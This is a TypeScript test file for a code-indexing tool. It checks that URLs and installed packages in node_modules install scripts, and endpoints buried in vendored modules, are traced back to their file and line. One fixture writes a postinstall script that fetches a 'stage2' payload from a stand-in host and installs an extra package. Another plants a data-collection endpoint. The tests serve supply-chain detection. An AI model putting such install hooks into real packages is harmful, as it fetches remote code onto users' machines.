import { execFileSync } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { treeQuery } from '@cairn/core';
import { afterEach, describe, expect, it } from 'vitest';
import { createTreePrintIndex } from '../src/binding/treePrintIndex.js';

/**
 * A `node_modules` package's manifest `scripts` (h47-attest, issue #22): the index read only a
 * manifest's described fields there, so a `postinstall` fetching a payload's URL attested nothing.
 * Its scripts' addresses and installed packages are prints now, at their lines.
 */
const hash = (v: string): string => createHmac('sha256', 'scripts').update(v).digest('hex');
const EX = 'example';
const made: string[] = [];
afterEach(() => {
  for (const dir of made.splice(0)) rmSync(dir, { recursive: true, force: true });
});

describe('a node_modules manifest’s scripts', () => {
  it('a URL and an installed package in a postinstall are found, at the line of the script', () => {
    const base = join(process.env.CAIRN_TEST_TMP ?? tmpdir(), 'h47-attest');
    mkdirSync(base, { recursive: true });
    const dir = mkdtempSync(join(base, 'scripts-'));
    made.push(dir);
    const root = join(dir, 'project');
    mkdirSync(join(root, 'node_modules', 'tidewatch'), { recursive: true });
    execFileSync('git', ['-C', root, 'init', '-q'], { stdio: 'ignore' });
    writeFileSync(join(root, '.gitignore'), 'node_modules/\n');
    const manifest = {
      name: 'tidewatch',
      version: '1.0.0',
      description: 'Tide gauges for harbours.',
      scripts: { test: 'node test.js', postinstall: `node -e "fetch('https://relay.gaugedrop.${EX}/stage2')" && npm install tide-shim-helper` },
    };
    writeFileSync(join(root, 'node_modules', 'tidewatch', 'package.json'), JSON.stringify(manifest, null, 2));
    const index = createTreePrintIndex(root, hash, { file: join(dir, 'home', 'c.prints.json') }).refresh();
    const find = (text: string) => index.lookup(treeQuery([text], hash, root).prints).files;
    const [byUrl] = find(`Every install of the gauges reports to https://relay.gaugedrop.${EX}/stage2 first.`);
    expect(byUrl?.path).toBe('node_modules/tidewatch/package.json');
    expect(new Set(byUrl?.lines)).toEqual(new Set([7]));
    expect(find('Before the gauges work, run npm install tide-shim-helper in the project.').map((f) => f.path)).toEqual([
      'node_modules/tidewatch/package.json',
    ]);
  });
});

describe('a vendored package’s code past its first 24 files', () => {
  it('an endpoint in any of 200 modules of a git-ignored vendored package is found (at most MAX_CODE_PER_PACKAGE per package)', () => {
    const base = join(process.env.CAIRN_TEST_TMP ?? tmpdir(), 'h47-attest');
    mkdirSync(base, { recursive: true });
    const dir = mkdtempSync(join(base, 'vendored-'));
    made.push(dir);
    const root = join(dir, 'project');
    const pkg = join(root, 'vendor', 'acme', 'gauges');
    mkdirSync(join(pkg, 'src'), { recursive: true });
    execFileSync('git', ['-C', root, 'init', '-q'], { stdio: 'ignore' });
    writeFileSync(join(root, '.gitignore'), 'vendor/\n');
    writeFileSync(join(pkg, 'composer.json'), '{"name": "acme/gauges", "description": "Gauges."}\n');
    for (let i = 0; i < 200; i++)
      writeFileSync(
        join(pkg, 'src', `Module${i}.php`),
        i === 137 ? `<?php\nconst ENDPOINT = 'https://sink.gaugedrop.${EX}/collect';\n` : `<?php\nclass Module${i} {}\n`,
      );
    const index = createTreePrintIndex(root, hash, { file: join(dir, 'home', 'c.prints.json') }).refresh();
    const found = index.lookup(treeQuery([`Readings are collected at https://sink.gaugedrop.${EX}/collect nightly.`], hash, root).prints).files;
    expect(found.map((f) => f.path)).toEqual(['vendor/acme/gauges/src/Module137.php']);
  });
});
